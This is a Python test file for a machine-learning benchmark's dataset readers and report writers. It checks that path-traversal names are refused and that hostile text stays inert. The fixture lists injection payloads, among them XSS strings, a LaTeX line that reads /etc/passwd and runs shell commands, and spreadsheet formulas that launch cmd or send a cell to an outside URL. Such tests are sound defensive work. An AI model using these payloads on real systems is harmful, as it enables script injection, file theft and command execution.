def tiny(root, wnids="n1\nn2\n", annotated="a.PNG\tn1\nb.PNG\tn2\n"):
    for wnid in ("n1", "n2"):
        (root / f"tiny/train/{wnid}/images").mkdir(parents=True)
        (root / f"tiny/train/{wnid}/images/0.PNG").write_bytes(picture())
    (root / "tiny/val/images").mkdir(parents=True)
    for name in "ab":
        (root / f"tiny/val/images/{name}.PNG").write_bytes(picture())
    (root / "tiny/wnids.txt").write_text(wnids)
    (root / "tiny/val/val_annotations.txt").write_text(annotated)


@pytest.mark.parametrize("name", ["../../../secret.PNG", "{}/secret.PNG", "x/../../../../secret.PNG"])
def test_lists_of_tiny_imagenet_name_no_file_outside(tmp_path, name):
    (tmp_path / "secret.PNG").write_bytes(picture())
    name = name.format(tmp_path)
    tiny(tmp_path, annotated=f"a.PNG\tn1\n{name}\tn2\n")
    with refused("val_annotations.txt", name):
        readers.find("tiny", tmp_path).read(0)


def test_classes_of_tiny_imagenet_name_no_folder_outside(tmp_path):
    tiny(tmp_path, wnids="n1\nn2\n../../../mine\n")
    (tmp_path / "mine/images").mkdir(parents=True)
    with refused("wnids.txt", "../../../mine"):
        readers.find("tiny", tmp_path).read(0)


@pytest.mark.parametrize("name", ["../../secret.png", "{}/secret.png"])
def test_lists_of_birds_name_no_file_outside(tmp_path, name):
    folder, name = tmp_path / "cub", name.format(tmp_path)
    (folder / "images").mkdir(parents=True)
    for file in (tmp_path / "secret.png", folder / "images/a.png"):
        file.write_bytes(picture())
    rows = {"images.txt": ("a.png", name), "image_class_labels.txt": ("1", "2"), "train_test_split.txt": ("1", "0")}
    rows |= {"bounding_boxes.txt": ("0 0 4 4", "0 0 4 4"), "classes.txt": ("1.A", "2.B")}
    for list_, (first, second) in rows.items():
        (folder / list_).write_text(f"1 {first}\n2 {second}\n")
    with refused("images.txt", name):
        readers.find("cub", tmp_path).read(0)


@pytest.mark.parametrize("name", ["../../../../../secret.ppm", "{}/secret.ppm"])
def test_lists_of_gtsrb_name_no_file_outside(tmp_path, name):
    where = tmp_path / "gtsrb/gtsrb"
    for k in range(43):
        (where / f"GTSRB/Training/{k:05d}").mkdir(parents=True)
        (where / f"GTSRB/Training/{k:05d}/0.ppm").write_bytes(picture("PPM"))
    (where / "GTSRB/Final_Test/Images").mkdir(parents=True)
    (tmp_path / "secret.ppm").write_bytes(picture("PPM"))
    with open(where / "GT-final_test.csv", "w", newline="") as file:
        csv.writer(file, delimiter=";").writerows([["Filename", "ClassId"], [name.format(tmp_path), 3]])
    with refused("GTSRB", "secret.ppm"):
        readers.find("gtsrb", tmp_path).read(0)


# ---- 6: text from outside stays text


EVIL = {
    "element": "<img src=x onerror=alert(1)>",
    "attribute": "\" onmouseover=alert(1) x=\"' onfocus='alert(1)",
    "script": "</script><script>alert(1)</script>",
    "title": "</title></svg><svg onload=alert(1)>",
    "template": "{{ 7 * 7 }}{% raw %}",
    "link": "[x](javascript:alert(1)) ![x](http://example.invalid/y) <javascript:alert(1)>",
    "latex": r"\input{/etc/passwd}\write18{touch x}\immediate^^5cinput % } $",
    "formula": '=HYPERLINK("http://example.invalid?"&A1)',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "terminal": "\x1b]0;x\x07\x1b[31m\r\u202e",
    "deep": "-" * 20_000 + "1",
    "typed": "{[]: 1}",
}


@pytest.fixture(params=EVIL)
def written(request, tmp_path):
    """A report whose every text comes from a hostile store: the text, and the report's parts."""
    evil = EVIL[request.param]
    text = {"cell": evil, "param:search.method.eps": evil, "param:method.eps": evil, "param:method": evil}
    text |= {"param:data": evil, "param:model": evil, "tag:git": evil, "tag:package.torch": evil}
    text |= {"check:reach": f"doubt: {evil}", "tag:device": evil, "space:method.eps": '{"low": 0, "high": 1}'}
    text |= {"param:search.optim.lr": "0.1, 1", "param:optim.lr": "0.5", "space:optim.lr": '{"low": 0.1, "high": 1}'}
    rows = [*(row | text for row in PGD), *(row | {"param:data": evil} for row in STANDARD)]
    rows += [child("pgd", "search", n, **{"val/robust": n / 10}) | text for n in range(4)]
    rows += [child("pgd", "search", 9, "failed", reason=evil) | text]
    table = pd.DataFrame(rows)
    md, sheet, tex, html = (file.read_text() for file in write(table, tmp_path, evil[:60]))
    return md, sheet, tex, html, terminal.text(build_leaderboard(table))


@pytest.mark.sample("element", "formula", "latex", "terminal")
def test_a_report_holds_hostile_text_as_text(written):
    md, sheet, tex, html, said = written
    assert html.count("<script") == html.count("</script") == 1
    for element in re.findall(r"<[a-zA-Z][^<>]*>", html):
        bare = re.sub(r'"[^"]*"', "", element)
        assert not re.search(r"\son\w+\s*=|javascript:|[^\w]src=[^ ]*x\b", bare), element
    assert not re.search(r'(href|src)="(?!#|data:image/webp;base64,)', html)
    assert "{{" not in html.replace("{{ 7", "") and "49" not in re.findall(r"<title>(.*?):", html)[0]
    for text in (md.replace("\\", ""), md):
        assert not re.search(r"<(img|script|svg|javascript)", text)
    assert not re.search(r"(?<!\\)\]\(", md)
    assert not re.search(r"\\(input|write|immediate)|\^\^", tex) and tex.isascii()
    assert all(re.match(r"\s*%", line) is None or line.startswith("% ") for line in tex.splitlines())
    for row in csv.reader(io.StringIO(sheet)):
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not re.match(r"-(?!\d*\.?\d+(e-?\d+)?$)", cell)
    assert all(c.isprintable() for c in said.replace("\n", ""))


def policy(page):
    """The sources of a page's Content-Security-Policy, by kind."""
    (text,) = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page)
    return dict(part.split(" ", 1) for part in unescape(text).split("; "))


@pytest.mark.sample("script")
def test_a_page_may_run_and_load_nothing_but_its_own(written):
    page = written[3]
    allowed = policy(page)
    for element in ("style", "script"):
        (content,) = re.findall(rf"<{element}>(.*?)</{element}>", page, re.DOTALL)
        digest = base64.b64encode(hashlib.sha256(content.encode()).digest()).decode()
        assert allowed.pop(f"{element}-src") == f"'sha256-{digest}'"
    assert allowed.pop("img-src") == "data:"
    assert allowed == {"default-src": "'none'", "base-uri": "'none'", "form-action": "'none'"}
    head = page.partition("Content-Security-Policy")[0]
    assert "<style" not in head and "<script" not in head and "<title" not in head  # it holds for all that follows
    for element in re.findall(r"<[a-zA-Z][^<>]*>", page):  # which the hashes do not cover
        assert not re.search(r"\s(style|on\w+)\s*=", re.sub(r'"[^"]*"', "", element)), element


HIDDEN = (
    "\u202e",
    "\u200b",
    "\u2066",
    "\u061c",
    "\ufeff",
    "\u00ad",
    "\u2028",
    "\u3164",
    "\ufe0f",
    "\x1b",
    "\U000e0041",
    "\u180b",
    "\u17b4",
    "\u2800",
    "\U000e0100",
)


def test_what_is_invisible_in_a_name_is_shown(tmp_path):
    names = {f"pgd{letter}x": f"pgd[U+{ord(letter):04X}]x" for letter in HIDDEN}
    rows = [row | {"cell": name} for name in names for row in PGD]
    md, _, _, page = (file.read_text() for file in write(pd.DataFrame([*STANDARD, *rows]), tmp_path, "a\u202eb"))
    for letter, (name, shown) in zip(HIDDEN, names.items(), strict=True):
        assert shown in page and name not in page and letter not in page.replace("\u2068", "").replace("\u2069", "")
        assert letter not in md
    assert "<title>a[U+202E]b: " in page


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("pgd, 8/255 ± 0.5 … – − × ε ≥ \u00a0|", None),
        ("中文 и ελ é ﬁ 🙂", None),
        ("שלום עולם 12", "\u2068שלום עולם\u2069 12"),
        ("a שלום", "a \u2068שלום\u2069"),
        ("a\u202ecba", "a[U+202E]cba"),
        ("🙂\u200d", "🙂[U+200D]"),
        ("\ud800", "[U+D800]"),
        ("line\n\tline", None),
    ],
)
def test_a_text_as_a_page_shows_it(text, shown):
    assert visible(text) == (text if shown is None else shown)
    marked = visible(Markup(text))
    assert marked == visible(text) and isinstance(marked, Markup)


@pytest.mark.parametrize(
    "text",
    [
        " =1+1",
        "\u00a0=1",
        "\u200b=1",
        "\ufeff=1",
        "  @x",
        "\tx",
        "＝1+1",
        " ＋1",
        "－1",
        "＠x",
        "\x00=1",
        "\n",
        "\x0b-x",
    ],
)
def test_formulas_of_a_csv_behind_blanks_or_in_full_width_are_marked(text):
    rows = list(csv.reader(io.StringIO(spreadsheet(pd.DataFrame({"cell": [text, "x = 1", " 1", "a＝b"]})), newline="")))
    assert [row[0] for row in rows[1:]] == [f"'{text}", "x = 1", " 1", "a＝b"]


def test_figures_and_plain_names_of_a_csv_are_as_they_were():
    leaderboard = to_frame(build_leaderboard(pd.DataFrame([*STANDARD, *PGD])))
    assert spreadsheet(leaderboard) == leaderboard.to_csv(index=False, lineterminator="\n")
    table = pd.DataFrame({"cell": ["=1", "-1", "-1e-3", "-x", "", None], "=sum": [-0.1, 1e-17, 2.0, None, 3.0, 4.0]})
    first = [row[0] for row in csv.reader(io.StringIO(spreadsheet(table)))]
    assert first == ["cell", "'=1", "-1", "-1e-3", "'-x", "", ""]
    assert spreadsheet(table).splitlines()[0] == "cell,'=sum" and "\n-1,1e-17\n" in spreadsheet(table)


@pytest.mark.parametrize("text", ["-" * 200_000 + "1", "1" + "+1" * 20_000, "{[]: 1}", "[" * 5_000, "9" * 5_000, "\0"])
def test_a_setting_that_no_parser_takes_stays_text(text):
    assert number_format.plain(text) == text


@pytest.mark.parametrize("order", ["²", "9" * 5000, "-1", "1e3", "٣"])
def test_a_hostile_tag_does_not_stop_a_report(order):
    data = SimpleNamespace(tags={"harness.order": order}, params={}, metrics={})
    run = SimpleNamespace(info=SimpleNamespace(run_id="a", run_name="x", start_time=0, artifact_uri=""), data=data)
    assert runs._row(run, run)["order"] == 10**6


def test_texts_of_a_store_are_cut_and_stay_two():
    def row(**tags):
        data = SimpleNamespace(
            tags={f"harness.{k}": v for k, v in tags.items()}, params=params, metrics={"m" * 900: 1.0}
        )
        info = SimpleNamespace(run_id="a", run_name="x", start_time=0, artifact_uri="s3://" + "x" * 10**6)
        run = SimpleNamespace(info=info, data=data)
        return runs._row(run, SimpleNamespace(info=info, data=data))

    long, params = "n" * 200_000, {"data": "d" * 200_000, "search.method.eps": "s" * 10**6, "p" * 900: "1"}
    one, two = (row(cell=long + end, reason=long, **{"check.reach": long}) for end in "ab")
    assert one["cell"] != two["cell"] and len(one["cell"]) == len(two["cell"]) == 200
    assert len(one["param:data"]) == 200 and len(one["reason"]) == len(one["check:reach"]) == 500
    assert sum(len(str(name)) + len(str(value)) for name, value in one.items()) < 25_000
    curve = " ".join(f"{epoch}:0.123456" for epoch in range(700))  # as long as MLflow takes it
    assert row(cell="plain", **{"curve.robust": curve})["curve:robust"] == curve


@pytest.mark.parametrize("classes", [np.array(["c" * 200_000] * 2), np.array(["a", "b"])])
def test_names_of_classes_are_cut(classes):
    names = arrays.class_names({"classes": classes, "y": np.array([0, 1])}, "y", 2)
    assert all(len(name) <= 60 for name in names) and names[0][:1] == classes[0][:1]


def test_what_a_server_says_does_not_steer_the_terminal(capsys):
    def main():
        raise UserError("\x1b]0;title\x07 said\nerror: so")

    assert exit_status(main) == 2
    assert capsys.readouterr().err == "error: ?]0;title? said?error: so\n"
    assert printable("± … é") == "± … é"
